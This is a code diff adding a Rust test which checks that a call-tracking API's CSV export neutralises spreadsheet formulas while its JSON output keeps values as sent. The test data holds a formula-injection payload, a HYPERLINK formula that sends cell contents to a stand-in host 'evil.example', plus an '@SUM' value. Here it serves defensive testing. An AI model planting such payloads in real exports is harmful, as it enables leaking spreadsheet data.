@@ -276,3 +276,34 @@ async fn a_lookup_answers_like_a_start_but_records_nothing() {
         .await
         .assert_problem(400, "called");
 }
+
+#[tokio::test]
+async fn the_csv_export_neutralises_formulas_but_keeps_numbers() {
+    let app = TestApp::new().await;
+    let evil = r#"=HYPERLINK("http://evil.example/?"&A1,"open")"#;
+    let l = lease(&app, json!({"listing": evil})).await;
+    start(
+        &app,
+        json!({"call_id": "@SUM(1+1)", "event": "start", "called": l["number"], "caller": "+33612345678"}),
+    )
+    .await;
+    let csv = app
+        .call("GET", "/v1/calls?format=csv", Some(ADMIN), None)
+        .await
+        .text;
+    let row = csv.lines().nth(1).unwrap();
+    assert!(
+        row.starts_with(&format!(
+            "'@SUM(1+1),ch,{},+33612345678,",
+            l["number"].as_str().unwrap()
+        )),
+        "{row}"
+    );
+    assert!(
+        row.contains(r#","'=HYPERLINK(""http://evil.example/?""&A1,""open"")",+41790000000,"#),
+        "{row}"
+    );
+    // JSON is not a spreadsheet: it carries the values as they were sent.
+    let json = app.call("GET", "/v1/calls", Some(ADMIN), None).await.json;
+    assert_eq!(json["calls"][0]["listing"], evil);
+}
